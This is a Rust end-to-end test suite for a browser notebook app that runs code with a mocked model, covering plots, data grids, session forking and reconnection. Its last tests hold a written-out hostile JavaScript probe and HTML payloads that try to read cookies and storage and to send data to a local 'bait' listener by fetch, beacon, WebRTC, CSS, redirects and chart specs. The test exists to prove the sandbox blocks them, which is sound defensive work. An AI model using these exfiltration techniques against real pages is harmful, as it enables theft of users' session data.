//! The page in a real browser, on a real server with real kernels. Models are played by aimock.

mod answers;
mod charts;
mod ended;
mod kept;
mod keyboard;
mod promises;

use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use serde_json::{Value, json};

use crate::aimock::Aimock;
use crate::browser::{Browser, Page};
use crate::support::{LIMIT, NOBODY, Sponde};
use crate::terminal::play;

/// A server of its own, ended when dropped.
struct Server {
    child: Child,
    url: String,
}

impl Server {
    fn start(sponde: &Sponde, arguments: &[&str]) -> Self {
        Self::start_without_model(sponde, &[&["--model", "gpt-4o"], arguments].concat())
    }

    fn start_without_model(sponde: &Sponde, arguments: &[&str]) -> Self {
        Self::serve(sponde, &[&["--approval", "always"], arguments].concat())
    }

    /// With nothing said of model and approval.
    fn serve(sponde: &Sponde, arguments: &[&str]) -> Self {
        use std::io::BufRead as _;
        let arguments = [&["serve"], arguments].concat();
        let mut child = sponde
            .command(&arguments)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        let stdout = child.stdout.take().unwrap();
        std::io::BufReader::new(stdout)
            .read_line(&mut line)
            .unwrap();
        let url = line.trim().to_owned();
        assert!(url.contains("/#token="), "{line}");
        Self { child, url }
    }

    /// Without the token.
    fn origin(&self) -> &str {
        self.url.split('#').next().unwrap()
    }

    fn signal(&mut self, signal: rustix::process::Signal) {
        let process = rustix::process::Pid::from_child(&self.child);
        rustix::process::kill_process(process, signal).unwrap();
        let begun = Instant::now();
        while self.child.try_wait().unwrap().is_none() {
            assert!(begun.elapsed() < LIMIT, "the server does not end");
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn port_zero() -> [&'static str; 2] {
    ["--listen", "127.0.0.1:0"]
}

/// Without a model that answers: code is the person's own.
fn sponde() -> Sponde {
    Sponde::new().with("OPENAI_BASE_URL", &format!("{NOBODY}/v1"))
}

/// Logs in and runs code of the person's own as the first cell of a new session.
async fn begin(browser: &Browser, server: &Server, code: &str) -> Page {
    let mut page = browser.open(&server.url).await;
    page.sees("What would you like to find out?").await;
    page.press("Code").await;
    page.click(".composer textarea").await;
    page.write(code).await;
    page.key("shift+Enter").await;
    page.until("location.hash.startsWith('#/s/')").await;
    page
}

/// Runs code in the session that is open.
async fn run(page: &mut Page, code: &str) {
    page.until("document.querySelector('.composer textarea')?.value === ''")
        .await;
    page.press("Code").await;
    page.click(".composer textarea").await;
    page.write(code).await;
    page.key("shift+Enter").await;
}

/// Waits until so many cells of code have ended.
async fn ended(page: &mut Page, cells: usize) {
    page.until(&format!(
        "document.querySelectorAll('article.code[data-status]').length === {cells} && !document.querySelector('.stop') && \
         ![...document.querySelectorAll('article.code')].some((it) => ['running', 'waiting'].includes(it.dataset.status))"
    ))
    .await;
}

/// The downloaded file with this extension, whatever its name.
async fn saved_as(browser: &Browser, page: &mut Page, extension: &str) -> Vec<u8> {
    let begun = Instant::now();
    loop {
        let files = std::fs::read_dir(browser.downloads()).into_iter().flatten();
        let names = files.map(|it| it.unwrap().path());
        let found = names
            .into_iter()
            .find(|it| it.extension().is_some_and(|it| it == extension));
        if let Some(path) = found {
            let name = path.file_name().unwrap().to_str().unwrap();
            return browser.downloaded(name).await;
        }
        assert!(begun.elapsed() < LIMIT, "nothing ends in .{extension}");
        page.eval("new Promise(requestAnimationFrame)").await;
    }
}

/// Nothing of elsewhere was asked for, and no script or policy complained.
async fn assert_is_clean(page: &mut Page, server: &Server) {
    // Whatever was told up to now comes before the answer.
    page.eval("1").await;
    let origin = server.origin();
    let foreign: Vec<String> = page
        .requested()
        .into_iter()
        .filter(|url| {
            !url.starts_with(origin) && !url.starts_with("data:") && !url.starts_with("blob:")
        })
        .collect();
    assert_eq!(foreign, Vec::<String>::new());
    assert_eq!(page.complaints(), Vec::<String>::new());
}

fn call(text: &str, code: &str) -> Value {
    json!({"blocks": [
        {"type": "text", "text": text},
        {"type": "toolCall", "name": "run_code", "arguments": json!({ "code": code }).to_string()},
    ]})
}

const PLOT: &str = "import matplotlib.pyplot as plt\n\
    plt.plot([1, 4, 9])\nplt.show()\nprint('plotted', 6 * 7)";

#[tokio::test(flavor = "multi_thread")]
async fn a_question_streams_asks_and_shows_a_plot() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let fixtures = json!([
        {"match": {"turnIndex": 0}, "response": call("I draw *it*.\n", PLOT)},
        {"match": {"turnIndex": 1}, "response": {"content": "It **grows**:\n\n| n | n² |\n|---|---|\n| 3 | 9 |\n"}},
    ]);
    // Pieces that come together are shown together.
    let mock = Aimock::start_with_pauses(&fixtures, "60").await;
    let sponde = Sponde::new().with_model(&mock);
    let server = Server::start(&sponde, &port_zero());
    let mut page = browser.open(&server.url).await;
    page.sees("What would you like to find out?").await;
    // The token is not in the address any more, nor anywhere a script could find it.
    let address = page.eval("location.href + document.cookie").await;
    assert!(!address.as_str().unwrap().contains("token"), "{address}");
    // What is shown while the model writes is looked at whenever the page changes.
    page.eval(
        "window.seen = new Set(); new MutationObserver(() => { const it = document.querySelector('.writing code'); if (it) seen.add(it.innerText); }) \
         .observe(document.body, {subtree: true, childList: true, characterData: true}); 1",
    )
    .await;
    // By keyboard alone.
    page.eval("document.querySelector('.composer textarea').focus()")
        .await;
    page.write("Draw it").await;
    page.key("Enter").await;
    page.sees("Run this code?").await;
    let seen = page.eval("[...seen].length").await;
    assert!(seen.as_u64().unwrap() > 2, "code streams: {seen}");
    page.until("document.activeElement.innerText === 'Run'")
        .await;
    page.key("Enter").await;
    page.until("document.querySelector('.picture img')?.naturalWidth > 100")
        .await;
    page.sees("plotted 42").await;
    page.until("document.querySelector('.model strong')?.innerText === 'grows' && document.querySelector('.model td')")
        .await;
    page.until("document.querySelector('.source .h-k')").await;
    assert!(page.eval("!document.querySelector('.ask')").await == true);
    // The plot, large and as a file.
    page.press("Enlarge Plot 1").await;
    page.until("document.querySelector('dialog[open] img')")
        .await;
    page.key("Escape").await;
    page.until("!document.querySelector('dialog')").await;
    page.press("Save as PNG").await;
    let saved = browser.downloaded("plot-1.png").await;
    assert!(saved.starts_with(b"\x89PNG"), "no PNG");
    page.press("Save as SVG").await;
    let graphic = String::from_utf8(browser.downloaded("plot-1.svg").await).unwrap();
    assert!(graphic.contains("<svg"), "{graphic}");
    page.press("Save its data as CSV").await;
    let data = String::from_utf8(browser.downloaded("plot-1.csv").await).unwrap();
    assert_eq!(data.lines().last(), Some("1,,line,,,,2,9"), "{data}");
    // The notebook.
    page.press("More").await;
    page.press("Save notebook (.ipynb)").await;
    let notebook = saved_as(&browser, &mut page, "ipynb").await;
    let notebook: Value = serde_json::from_slice(&notebook).unwrap();
    assert_eq!(notebook["nbformat"], 4);
    // The same in the other view, and after the page is loaded anew.
    page.press("Notebook").await;
    page.sees("[1]").await;
    page.call("Page.reload", json!({})).await;
    page.until("document.querySelector('.picture img')?.naturalWidth > 100")
        .await;
    page.sees("grows").await;
    assert_is_clean(&mut page, &server).await;
    mock.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_of_a_million_rows_is_paged_in_the_kernel() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sponde = sponde();
    let server = Server::start(&sponde, &port_zero());
    let code = "import numpy as np, pandas as pd\nframe = pd.DataFrame({'n': np.arange(1_000_000), 'square': np.arange(1_000_000) ** 2, 'name': np.where(np.arange(1_000_000) % 2, 'odd', 'even')})\nframe";
    let mut page = begin(&browser, &server, code).await;
    ended(&mut page, 1).await;
    page.until("document.querySelector('.rich table')").await;
    page.click(".explore").await;
    page.sees("1,000,000 rows × 3 columns").await;
    let cells = "[...document.querySelectorAll('.grid-row')].map((it) => it.innerText.replace(/\\s+/g, ' ').trim())";
    page.until(&format!("{cells}[3] === '3 3 9 odd'")).await;
    // To the end: only what is looked at was asked for.
    page.click(".grid-row").await;
    page.eval("document.querySelector('.grid').focus()").await;
    page.key("End").await;
    page.until(&format!(
        "{cells}.includes('999,999 999999 999998000001 odd')"
    ))
    .await;
    page.eval("1").await;
    let windows = page
        .requested()
        .iter()
        .filter(|it| it.contains("/frames/frame?"))
        .count();
    assert!(windows < 20, "{windows} windows for two looks");
    // Sorted, filtered, in the kernel.
    page.press("n").await;
    page.press("n ↑").await;
    page.until(&format!("{cells}[0] === '0 999999 999998000001 odd'"))
        .await;
    page.click(".grid-tools [name=filter]").await;
    page.write("123456").await;
    page.key("Enter").await;
    page.until(
        "/^\\d{1,3} rows/.test(document.querySelector('.grid-tools [role=status]').innerText)",
    )
    .await;
    page.until(&format!(
        "{cells}.length > 0 && {cells}.every((it) => /123456|…/.test(it))"
    ))
    .await;
    page.press("Profile of square").await;
    page.until("document.querySelectorAll('.histogram rect').length > 4")
        .await;
    page.press("Save").await;
    page.press("CSV").await;
    let csv = String::from_utf8(browser.downloaded("frame.csv").await).unwrap();
    assert!(csv.lines().next().unwrap().contains("square"), "{csv}");
    assert!(csv.lines().count() < 2000 && csv.contains("123456"));
    assert_is_clean(&mut page, &server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn code_asks_for_lines_is_stopped_and_taken_back() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sponde = sponde();
    let server = Server::start(&sponde, &port_zero());
    let code = "import getpass\nname = input('Who? ')\nsecret = getpass.getpass('Secret? ')\nprint(name, len(secret))";
    let mut page = begin(&browser, &server, code).await;
    page.until("document.activeElement.closest('.ask')?.innerText.includes('Who?')")
        .await;
    page.write("Ada").await;
    page.key("Enter").await;
    page.until("document.activeElement.type === 'password'")
        .await;
    page.write("hunter2").await;
    page.key("Enter").await;
    page.sees("Ada 7").await;
    ended(&mut page, 1).await;
    let shown = page.eval("document.body.innerHTML").await;
    assert!(!shown.as_str().unwrap().contains("hunter2"));
    // Progress in place, colours, and an error that is folded.
    run(&mut page, "import sys\nfor n in range(101):\n    print(f'\\r{n}%', end='')\nprint('\\n\\x1b[31mred\\x1b[0m')\n1 / 0").await;
    ended(&mut page, 2).await;
    page.until("document.querySelector('.a-f1')?.innerText === 'red'")
        .await;
    page.sees("100%").await;
    assert_eq!(
        page.eval("document.body.innerText.includes('99%')").await,
        false
    );
    page.until("document.querySelector('.error-line').innerText.includes('ZeroDivisionError')")
        .await;
    assert_eq!(
        page.eval("!!document.querySelector('.traceback')").await,
        false
    );
    page.click(".error-line").await;
    page.until("document.querySelector('.traceback').innerText.includes('1 / 0')")
        .await;
    // Endless.
    run(&mut page, "n = 0\nwhile True:\n    n += 1\n    print(n)").await;
    page.until(
        "[...document.querySelectorAll('article.code[data-status=running] .stdout')].length > 0",
    )
    .await;
    page.press("Stop").await;
    page.until("document.querySelectorAll('article.code')[2].dataset.status === 'stopped'")
        .await;
    ended(&mut page, 3).await;
    // Taken back.
    page.press("Undo the last turn").await;
    page.until("document.querySelectorAll('article.code').length === 2")
        .await;
    page.sees("Undid 1 cell").await;
    assert_is_clean(&mut page, &server).await;
}

/// Without a model the page says how to get one, and runs code of the person's own.
#[tokio::test(flavor = "multi_thread")]
async fn without_a_model_the_page_says_how_to_get_one() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sponde = Sponde::new();
    let server = Server::start_without_model(&sponde, &port_zero());
    let mut page = browser.open(&server.url).await;
    page.sees("There is no model to ask.").await;
    page.sees("sponde models pull").await;
    page.until("document.querySelector('[role=radio][aria-checked=true]').innerText === 'Code'")
        .await;
    page.click(".composer textarea").await;
    page.write("print('sum', 6 * 7)").await;
    page.key("shift+Enter").await;
    page.sees("sum 42").await;
    ended(&mut page, 1).await;
    page.sees("There is no model to ask.").await;
    assert_is_clean(&mut page, &server).await;
}

/// A fork from a cell's button is another session with its beginning, and the page is on it.
#[tokio::test(flavor = "multi_thread")]
async fn a_session_is_forked_from_a_cell() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sponde = sponde();
    let server = Server::start(&sponde, &port_zero());
    let mut page = begin(&browser, &server, "first = 1").await;
    ended(&mut page, 1).await;
    run(&mut page, "print(first + 1)").await;
    ended(&mut page, 2).await;
    let before = page.eval("location.hash").await;
    page.eval("document.querySelector('article.code').dataset.cell")
        .await;
    page.click("article.code .tool[aria-label^='Fork']").await;
    page.until(&format!(
        "location.hash !== {before} && document.querySelectorAll('article.code').length === 1"
    ))
    .await;
    page.sees("1 cell can run again").await;
    page.press("Run them again").await;
    page.until("document.querySelector('.composer textarea') && !document.querySelector('.ask')")
        .await;
    run(&mut page, "print('sum', first + 41)").await;
    page.sees("sum 42").await;
    // The whole of it, from the menu.
    page.press("More").await;
    page.press("Fork this session").await;
    page.until("document.querySelectorAll('.lists .dot').length === 3")
        .await;
    assert_is_clean(&mut page, &server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn files_are_dropped_seen_and_downloaded() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sponde = sponde();
    let server = Server::start(&sponde, &port_zero());
    let mut page = begin(&browser, &server, "kept = 1").await;
    ended(&mut page, 1).await;
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().join("sales report.csv");
    std::fs::write(&file, "city,total\nParis,12\n").unwrap();
    page.drop_files(&[&file]).await;
    page.until("document.querySelector('.composer textarea').value.includes('`sales report.csv`')")
        .await;
    page.eval("document.querySelector('.composer textarea').value = ''; document.querySelector('.composer textarea').dispatchEvent(new Event('input', {bubbles: true}))").await;
    run(&mut page, "import csv\nprint(list(csv.reader(open('sales report.csv')))[1])\nopen('made.txt', 'w').write('a result')").await;
    page.sees("['Paris', '12']").await;
    page.press("Variables, files, kernels, cost").await;
    page.sees("kept").await;
    page.press("Files").await;
    page.sees("made.txt").await;
    page.press("Download made.txt").await;
    assert_eq!(browser.downloaded("made.txt").await, b"a result");
    page.until("[...document.querySelectorAll('.row-main')].find((it) => it.innerText.includes('sales'))?.click() || document.querySelector('dialog pre')?.innerText.includes('Paris')")
        .await;
    page.key("Escape").await;
    for (tab, words) in [
        ("Kernels", "python"),
        ("Cost", "Tokens sent"),
        ("History", "Go back"),
    ] {
        page.press(tab).await;
        page.until(&format!(
            "document.querySelector('.panel-body').innerText.includes({})",
            json!(words)
        ))
        .await;
    }
    // Completion.
    run(&mut page, "kep").await;
    ended(&mut page, 3).await;
    page.click(".composer textarea").await;
    page.write("kep").await;
    page.key("Tab").await;
    page.until("document.querySelector('.composer textarea').value === 'kept'")
        .await;
    assert_is_clean(&mut page, &server).await;
}

/// Prints a number at each word from the test, so that nothing goes by time.
fn paced(lines: u32) -> String {
    format!(
        "import os, time\nfor n in range({lines}):\n    while not os.path.exists(f'go-{{n}}'): time.sleep(.01)\n    print('line', n, flush=True)\nprint('all', {lines})"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_is_loaded_anew_in_mid_cell_loses_nothing() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sponde = sponde();
    let server = Server::start(&sponde, &port_zero());
    let mut page = begin(&browser, &server, &paced(4)).await;
    sponde.write("go-0", "");
    page.sees("line 0").await;
    page.call("Page.reload", json!({})).await;
    page.sees("line 0").await;
    sponde.write("go-1", "");
    page.sees("line 1").await;
    // Without a network for a while.
    page.call(
        "Network.emulateNetworkConditions",
        json!({"offline": true, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}),
    )
    .await;
    page.eval("dispatchEvent(new Event('offline'))").await;
    sponde.write("go-2", "");
    page.call(
        "Network.emulateNetworkConditions",
        json!({"offline": false, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}),
    )
    .await;
    page.sees("line 2").await;
    sponde.write("go-3", "");
    ended(&mut page, 1).await;
    let shown = page
        .eval("document.querySelector('.stdout').innerText.trim()")
        .await;
    assert_eq!(shown, "line 0\nline 1\nline 2\nline 3\nall 4");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_is_killed_in_mid_cell_comes_back() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let sponde = sponde();
    let token = sponde.path("token");
    let token = token.to_str().unwrap();
    let mut server = Server::start(&sponde, &["--listen", "127.0.0.1:0", "--token-file", token]);
    let mut page = begin(&browser, &server, "x = 41\nprint('first', x)").await;
    ended(&mut page, 1).await;
    run(&mut page, &paced(2)).await;
    sponde.write("go-0", "");
    page.sees("line 0").await;
    server.signal(rustix::process::Signal::KILL);
    page.sees("Connection lost").await;
    let address = server.origin().trim_end_matches('/').to_owned();
    let address = address.strip_prefix("http://").unwrap().to_owned();
    drop(server);
    let server = Server::start(&sponde, &["--listen", &address, "--token-file", token]);
    page.until(
        "!document.querySelector('.lost') && document.body.innerText.includes('Run them again')",
    )
    .await;
    // What came before is there, once; of the cell that ran, at least its code.
    let shown = page
        .eval("[...document.querySelectorAll('.stdout')].map((it) => it.innerText.trim())")
        .await;
    assert_eq!(shown[0], "first 41");
    assert!(shown.as_array().unwrap().len() <= 2, "{shown}");
    let cells = page
        .eval("document.querySelectorAll('article.code').length")
        .await;
    assert_eq!(cells, 2);
    sponde.write("go-1", "");
    page.press("Run them again").await;
    page.until("!document.querySelector('.ask') && !document.querySelector('.stop')")
        .await;
    run(&mut page, "print('again', x + 1)").await;
    page.sees("again 42").await;
    drop(server);
}

#[tokio::test(flavor = "multi_thread")]
async fn two_pages_and_a_terminal_share_a_session() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let mock = Aimock::start(&json!([
        {"match": {"turnIndex": 0}, "response": call("", "print('ran', 1 + 1)")},
        {"match": {"turnIndex": 1}, "response": call("", "print('ran', 1 + 2)")},
        {"match": {"turnIndex": 2}, "response": {"content": "Well."}},
    ]))
    .await;
    let sponde = Arc::new(Sponde::new().with_model(&mock));
    let server = Server::start(&sponde, &port_zero());
    let mut one = browser.open(&server.url).await;
    one.sees("What would you like to find out?").await;
    one.click(".composer textarea").await;
    one.write("Run it").await;
    one.key("Enter").await;
    one.sees("Run this code?").await;
    let address = one.eval("location.href").await;
    let address = address.as_str().unwrap();
    let mut two = browser.open(address).await;
    two.sees("Run this code?").await;
    // One page decides, and the question goes away in the other.
    two.press("Run").await;
    for page in [&mut one, &mut two] {
        page.sees("ran 2").await;
        page.until("document.querySelectorAll('article.code').length === 2 && document.querySelectorAll('.ask').length === 1")
            .await;
    }
    // Then the terminal does, and it goes away in both.
    let (_, id) = address.split_once("#/s/").unwrap();
    let (terminal, id) = (Arc::clone(&sponde), id.to_owned());
    let terminal = tokio::task::spawn_blocking(move || {
        let steps = json!([
            ["wait", "attached to"],
            ["wait", "or say what to do instead:"],
            ["type", "y\n"],
            ["wait", "ran 3"],
            ["wait", "Well."],
            ["wait", "> "],
            ["type", "\u{4}"],
        ]);
        play(&terminal, &["attach", &id], &steps)
    });
    for page in [&mut one, &mut two] {
        page.sees("ran 3").await;
        page.sees("Well.").await;
        page.until("!document.querySelector('.ask')").await;
        let cells = page
            .eval("document.querySelectorAll('article.code').length")
            .await;
        assert_eq!(cells, 2);
    }
    let terminal = terminal.await.unwrap();
    assert_eq!(terminal.code, 0, "{}", terminal.all);
    assert_is_clean(&mut one, &server).await;
    assert_is_clean(&mut two, &server).await;
    mock.stop().await;
}

/// Where hostile code tries to reach: it notes what comes, over TCP (the first line) and UDP. A connection on which nothing is
/// sent is what no page can forbid a browser.
#[derive(Clone)]
struct Bait {
    address: String,
    came: Arc<Mutex<Vec<String>>>,
}

impl Bait {
    async fn start() -> Self {
        use tokio::io::AsyncBufReadExt as _;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let datagrams = tokio::net::UdpSocket::bind(("127.0.0.1", port))
            .await
            .unwrap();
        let bait = Self {
            address: format!("http://127.0.0.1:{port}"),
            came: Arc::default(),
        };
        let (streams, packets) = (bait.clone(), bait.clone());
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let bait = streams.clone();
                tokio::spawn(async move {
                    let mut line = String::new();
                    let mut stream = tokio::io::BufReader::new(stream);
                    if stream.read_line(&mut line).await.is_ok() && !line.is_empty() {
                        bait.note(line.trim());
                    }
                });
            }
        });
        tokio::spawn(async move {
            let mut bytes = [0; 1500];
            while datagrams.recv_from(&mut bytes).await.is_ok() {
                packets.note("a datagram");
            }
        });
        bait
    }

    fn note(&self, what: &str) {
        self.came.lock().unwrap().push(what.to_owned());
    }

    fn assert_nobody_came(&self) {
        let came = self.came.lock().unwrap();
        assert_eq!(*came, Vec::<String>::new(), "something reached out");
    }
}

/// Tries each way out of a frame and tells what came of it.
fn hostile_script(bait: &str) -> String {
    format!(
        r#"
const tell = (name, value) => parent.postMessage({{probe: name, value: String(value)}}, "*");
const attempt = (name, act) => {{ try {{ Promise.resolve(act()).then((it) => tell(name, "WORKED " + it), (e) => tell(name, "failed " + e.name)); }} catch (e) {{ tell(name, "failed " + e.name); }} }};
tell("runs", "yes");
attempt("parent.document", () => parent.document.body.innerHTML);
attempt("top.location", () => top.location.href);
attempt("cookie", () => document.cookie);
attempt("localStorage", () => localStorage.length);
attempt("sessionStorage", () => sessionStorage.length);
attempt("indexedDB", () => new Promise((y, n) => {{ const r = indexedDB.open("x"); r.onsuccess = y; r.onerror = () => n(r.error); }}));
attempt("fetch api", () => fetch("/api/sessions", {{credentials: "include"}}).then((r) => r.text()));
attempt("fetch out", () => fetch("{bait}/fetch"));
attempt("xhr", () => new Promise((y, n) => {{ const x = new XMLHttpRequest(); x.open("GET", "/api/sessions"); x.onload = y; x.onerror = () => n(new Error("network")); x.send(); }}));
attempt("beacon", () => {{ if (!navigator.sendBeacon("{bait}/beacon")) throw new Error("no"); return "queued"; }});
attempt("websocket", () => new Promise((y, n) => {{ const w = new WebSocket("{bait}".replace("http", "ws")); w.onopen = y; w.onerror = () => n(new Error("network")); }}));
attempt("image", () => new Promise((y, n) => {{ const i = new Image(); i.onload = y; i.onerror = () => n(new Error("blocked")); i.src = "{bait}/image.png"; }}));
attempt("popup", () => {{ const w = open("{bait}/popup"); if (!w) throw new Error("blocked"); return "opened"; }});
attempt("top navigation", () => {{ top.location = "{bait}/top"; return new Promise((y, n) => setTimeout(() => n(new Error("still here")), 300)); }});
attempt("parent api", () => parent.fetch("/api/sessions"));
attempt("serviceWorker", () => navigator.serviceWorker.register("/x.js"));
attempt("frame", () => new Promise((y, n) => {{ const f = document.createElement("iframe"); f.src = "/"; f.onload = () => {{ try {{ y(f.contentDocument.title); }} catch (e) {{ n(e); }} }}; document.body.append(f); setTimeout(() => n(new Error("nothing")), 500); }}));
attempt("form", () => {{ const f = document.createElement("form"); f.action = "{bait}/form"; f.target = "_top"; document.body.append(f); f.submit(); throw new Error("sent to nowhere"); }});
attempt("worker", () => new Promise((y, n) => {{ const w = new Worker(URL.createObjectURL(new Blob(["fetch('{bait}/worker').then(() => postMessage('WORKED'), (e) => postMessage(e.name))"]))); w.onmessage = (e) => e.data === "WORKED" ? y() : n(new Error(e.data)); w.onerror = () => n(new Error("blocked")); }}));
attempt("import in a worker", () => new Promise((y, n) => {{ const w = new Worker(URL.createObjectURL(new Blob(["try {{ importScripts('{bait}/import.js'); postMessage('WORKED') }} catch (e) {{ postMessage(e.name) }}"]))); w.onmessage = (e) => e.data === "WORKED" ? y() : n(new Error(e.data)); w.onerror = () => n(new Error("blocked")); }}));
attempt("webrtc", async () => {{ const c = new RTCPeerConnection({{iceServers: [{{urls: "stun:{bait}".replace("http://", "")}}]}}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); return new Promise((y, n) => {{ c.onicecandidate = (e) => e.candidate?.candidate.includes("srflx") && y(); setTimeout(() => n(new Error("no candidate")), 1500); }}); }});
attempt("webrtc in a frame", () => new Promise((y, n) => {{ const f = document.createElement("iframe"); f.srcdoc = `<script>const c = new RTCPeerConnection({{iceServers: [{{urls: "stun:${{"{bait}".replace("http://", "")}}"}}]}}); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)).then(() => parent.parent.postMessage({{probe: "inner", value: "WORKED"}}, "*"))</` + "script>"; document.body.append(f); setTimeout(() => n(new Error("nothing")), 500); }}));
attempt("link", () => new Promise((y, n) => {{ for (const rel of ["prefetch", "preload", "stylesheet", "modulepreload", "icon", "manifest", "prerender"]) {{ const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = "{bait}/" + rel; l.onload = y; document.head.append(l); }} setTimeout(() => n(new Error("nothing")), 300); }}));
attempt("css", () => new Promise((y, n) => {{ const s = document.createElement("style"); s.textContent = "@import url('{bait}/import.css'); @font-face {{ font-family: x; src: url('{bait}/font'); }} body {{ background: url('{bait}/css.png'); font-family: x; cursor: url('{bait}/cursor'), auto; }}"; document.head.append(s); setTimeout(() => n(new Error("nothing")), 300); }}));
attempt("ping", () => {{ const a = document.createElement("a"); a.href = '#here'; a.ping = "{bait}/ping"; document.body.append(a); a.click(); throw new Error("sent to nowhere"); }});
attempt("module", () => import("{bait}/module.js"));
attempt("event source", () => new Promise((y, n) => {{ const s = new EventSource("{bait}/events"); s.onopen = y; s.onerror = () => n(new Error("network")); }}));
attempt("video", () => new Promise((y, n) => {{ const v = document.createElement("video"); v.oncanplay = y; v.onerror = () => n(new Error("blocked")); v.src = "{bait}/video"; v.poster = "{bait}/poster"; document.body.append(v); }}));
parent.postMessage({{sponde: "height", height: 1e9}}, "*");
tell("end", "yes");
"#
    )
}

/// What the page is told from its frames.
const LISTEN: &str = "window.probes = {}; addEventListener('message', (event) => { if (event.data?.probe) probes[event.data.probe] = event.data.value; }); 1";

async fn assert_nothing_worked(page: &mut Page, browser: &Browser, address: &str) {
    page.until("Object.keys(probes).length >= 30").await;
    let probes = page.eval("probes").await;
    let probes = probes.as_object().unwrap();
    let worked: Vec<_> = probes
        .iter()
        .filter(|(_, value)| value.as_str().unwrap().starts_with("WORKED"))
        // It can be queued; that nothing arrives is counted where it would.
        .filter(|(name, _)| *name != "beacon")
        .collect();
    assert!(worked.is_empty(), "{worked:?}");
    assert_eq!(probes["runs"], "yes");
    assert_eq!(page.eval("location.href").await, address);
    assert_eq!(browser.tabs().await, 2, "a window was opened");
    let frames = page
        .eval("[...document.querySelectorAll('iframe')].map((it) => [it.getAttribute('sandbox'), it.clientHeight])")
        .await;
    for frame in frames.as_array().unwrap() {
        let sandbox = frame[0].as_str().unwrap();
        assert!(
            sandbox.contains("allow-scripts") && !sandbox.contains("same-origin"),
            "{sandbox}"
        );
        for never in ["popups", "modals", "top-navigation"] {
            assert!(!sandbox.contains(never), "{sandbox}");
        }
        assert!(frame[1].as_u64().unwrap() <= 4000);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_outputs_reach_nothing() {
    let Some(browser) = Browser::start().await else {
        return;
    };
    let trap = Bait::start().await;
    let bait = trap.address.clone();
    let sponde = sponde();
    let server = Server::start(&sponde, &port_zero());
    let script = json!(hostile_script(&bait)).to_string();
    let mut page = begin(&browser, &server, "print('ready')").await;
    ended(&mut page, 1).await;
    page.eval(LISTEN).await;
    let address = page.eval("location.href").await;
    let address = address.as_str().unwrap();
    // HTML with scripts.
    run(&mut page, &format!("from IPython.display import HTML, Javascript, SVG, Markdown, display\nscript = {script}\ndisplay(HTML('<p>x</p><script>' + script + '</script>'))")).await;
    assert_nothing_worked(&mut page, &browser, address).await;
    // JavaScript as such.
    page.eval("window.probes = {}; 1").await;
    run(&mut page, "display(Javascript(script))").await;
    assert_nothing_worked(&mut page, &browser, address).await;
    // A frame that goes elsewhere, with what it has seen: by script, by itself, and by a link.
    for (n, leave) in [
        format!("<script>location = '{bait}/self?data'</script>"),
        format!("<meta http-equiv=refresh content=\"0;url={bait}/refresh?data\"><script>1</script>"),
        format!("<a href='{bait}/link?data'>x</a><script>document.querySelector('a').click()</script>"),
        "<script>location = '/api/sessions'</script>".to_owned(),
        "<script>history.pushState(null, '', '#x'); location.replace('data:text/html,<script>parent.postMessage({probe: \"data\"}, \"*\")<\\/script>')</script>".to_owned(),
    ]
    .iter()
    .enumerate()
    {
        page.eval("window.probes = {}; window.loads = 0; new MutationObserver(() => document.querySelectorAll('iframe:not([data-seen])').forEach((it) => { it.dataset.seen = 1; it.addEventListener('load', () => { loads += 1; }); })).observe(document.body, {subtree: true, childList: true}); 1").await;
        run(&mut page, &format!("display(HTML({}))", json!(leave))).await;
        ended(&mut page, 4 + n).await;
        page.eval("[...document.querySelectorAll('iframe')].at(-1)?.scrollIntoView(); 1")
            .await;
        // The document itself, and what became of the way out.
        page.until("loads >= 1").await;
        page.eval("new Promise((resolve) => setTimeout(resolve, 500))")
            .await;
        assert_eq!(page.eval("Object.keys(probes)").await, json!([]), "{leave}");
        assert_eq!(page.eval("location.href").await, address, "{leave}");
    }
    trap.assert_nobody_came();
    // Charts whose data are elsewhere.
    let charts = format!(
        "display({{'application/vnd.vegalite.v5+json': {{'data': {{'url': '{bait}/data.json'}}, 'mark': 'bar', 'encoding': {{'x': {{'field': 'a'}}}}, 'usermeta': {{'embedOptions': {{'loader': {{'baseURL': '{bait}'}}, 'actions': True}}}}}}, 'text/plain': 'x'}}, raw=True)\n\
         display({{'application/vnd.plotly.v1+json': {{'data': [{{'type': 'scatter', 'x': [1], 'y': [1], 'text': ['<img src={bait}/text><a href=\"{bait}/a\">x</a>']}}], 'layout': {{'height': 300, 'title': {{'text': '<a href=\"javascript:parent.postMessage({{probe:9}})\">t</a>'}}, 'images': [{{'source': '{bait}/plotly.png', 'x': 0, 'y': 1, 'sizex': 1, 'sizey': 1}}]}}}}, 'text/plain': 'x'}}, raw=True)"
    );
    page.eval("window.probes = {}; 1").await;
    run(&mut page, &charts).await;
    ended(&mut page, 9).await;
    page.eval("[...document.querySelectorAll('iframe')].slice(-2).forEach((it) => it.scrollIntoView()); 1")
